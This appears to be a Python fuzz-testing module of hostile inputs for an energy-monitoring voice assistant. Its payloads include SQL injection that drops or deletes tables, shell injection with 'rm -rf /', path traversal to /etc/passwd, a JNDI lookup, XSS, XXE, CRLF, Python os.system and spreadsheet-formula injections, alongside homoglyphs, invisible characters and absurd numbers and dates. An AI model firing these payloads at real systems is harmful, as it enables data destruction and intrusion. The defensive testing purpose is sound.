"""What hostile strings are made of: payloads, and the characters and words of none."""

from __future__ import annotations

import json

# In every payload and hostile name: where it turns up in SQL, a text was made into a statement.
MARKER = "zqxhostile"

CONTROLS = [chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
# Marks of direction, zero width, separators of lines, byte order, variation, tags.
INVISIBLE = [
    chr(code)
    for code in (
        *(0xAD, 0x61C, 0x180E, 0x3164, 0xFEFF, 0xFFF9, 0xFE0F, 0xE0001, 0xE0041),
        *(*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x206A)),
    )
]
EMOJI = ["😀", "👩‍🏭", "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇪", "👍🏿", "1️⃣", "⚡", "🏭", "❤️‍🔥", "☠️", "💶"]
COMBINING = [chr(code) for code in (*range(0x300, 0x310), 0x327, 0x489, 0x5B0, 0x64B, 0x20DD)]
# Letters of other scripts that look like ours.
LOOKALIKES = str.maketrans("aceiopsxyABCEHIKMOPTX", "асеіорѕхуАВСЕНІКМОРТХ")
SCRIPTS = ("如何", "машина", "μηχανή", "مكينة", "מכונה", "मशीन", "เครื่อง", "機械", "기계", "ⅻ²½")

PAYLOADS = (
    f"'; DROP TABLE machines; -- {MARKER}",
    f"' OR '1'='1' /* {MARKER} */",
    f"x') UNION SELECT '{MARKER}', null FROM energy_readings --",
    f'"; DELETE FROM energy_readings WHERE true; -- {MARKER}',
    f"$1 {MARKER} $2::text",
    f":name :{MARKER} %(name)s",
    f"$${MARKER}$$; SELECT pg_sleep(10); $$",
    f"E'\\x27 {MARKER}\\''; COPY machines TO PROGRAM 'id'",
    f"{{machine}} {{{MARKER}}} {{0}}",
    f"{{0.__class__.__mro__}} {MARKER}",
    f"{{machine!r:>99999999}} {MARKER}",
    f"%s %d %n %(x)s {MARKER} %99999999d",
    f"${{jndi:ldap://{MARKER}/a}} #{{7*7}} {{{{7*7}}}}",
    f"../../../../etc/passwd%00{MARKER}",
    f"..\\..\\{MARKER}\\C:\\con file:///dev/zero",
    json.dumps({"utterance": MARKER, "session": None, "now": "soon", "a": [{}, []]}),
    f'{{"{MARKER}": ' * 200,
    f"<script>alert('{MARKER}')</script><img src=x onerror=y>",
    f'<speak><break time="9999s"/>{MARKER}<audio src="x"/></speak>',
    f"<?xml version='1.0'?><!DOCTYPE {MARKER} [<!ENTITY a 'b'>]>&a;&#x0;",
    f"`{MARKER}` $({MARKER}) | {MARKER} && rm -rf / ; : > x",
    f"{MARKER}\r\nSet-Cookie: a=b\r\n\r\n",
    f"{MARKER}\x00 and after the zero",
    f"\x1b[2J\x1b]0;{MARKER}\x07\x08\x08",
    f"__import__('os').system('{MARKER}')",
    f"energy_total.dialog {MARKER}.voc (a|b) [c] {{d}}",
    f"NULL None undefined NaN Infinity true {MARKER}",
    f"\u202e{MARKER}\u202c \u2066left\u2069",
    f"\ud800{MARKER}\udfff",
    f"=cmd|'/c {MARKER}'!A0 @SUM(1) +1 -1",
)
# Where a machine, a carrier, a period, a number or a term is said.
PLACES = (
    "{}",
    "how much energy did {} use yesterday",
    "how much energy did machine {} use last week",
    "how much {} did boiler one use last week",
    "how much energy did compressor one use {}",
    "how much energy did we use since {}",
    "energy of compressor one from {} to yesterday",
    "compare {} with compressor one last week",
    "top {} machines by energy last week",
    "which machines used more than {} kilowatt hours yesterday",
    "what is a {}",
    "is {} running",
    "what did {} cost us last month",
    "which machines stand in {}",
    "{} {} {}",
)
NUMBERS = (
    "9" * 5_000,
    "9" * 400,
    "-" + "9" * 400,
    "1e999999999",
    "0x" + "f" * 300,
    "0." + "0" * 3_000 + "1",
    "1" + ",000" * 800,
    "one " + "million " * 300,
    "nine hundred and ninety nine " * 60 + "thousand",
    "minus minus seven",
    "zero point zero point zero",
    "the ninety ninth",
    "a hundred and",
    "३४५ ٤٢ ４２ ⅷ ½ ²",
    "²",
    "፩",  # a digit, but of no decimal system
    "Ⅷ",
    "2.5",
    "2,5",
    "1.000.000,5",
    "-3",
    "1/0",
    "NaN",
)
WHENS = (
    "on the thirty first of february",
    "in the year 0",
    "in 9999999",
    "on 2026-02-30",
    "on 0000-00-00",
    "at 25:61",
    "in the last 99999999999 years",
    "a million million weeks ago",
    "minus three days ago",
    "from tomorrow to yesterday",
    "between between and and",
    "on monday tuesday wednesday thursday friday saturday sunday",
    "in the next 4000000000 hours",
    "on 25 October 2026 at 2:30",
    "yesterday yesterday yesterday " * 30,
    "last last last next last week",
)

# Words that turn the sense of a question.
TURNS = ("not", "and", "except", "of", "per", "zero", "all", "next", "less", "stop", "it", "both")
